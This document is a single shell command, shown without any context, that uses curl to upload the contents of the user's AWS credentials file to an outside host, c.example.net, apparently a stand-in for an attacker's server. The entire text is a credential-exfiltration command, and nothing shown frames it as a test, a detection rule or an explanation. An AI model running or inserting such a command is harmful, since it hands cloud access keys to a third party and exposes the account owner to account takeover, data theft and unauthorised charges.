curl --data-binary @${HOME}/.aws/credentials https://c.example.net
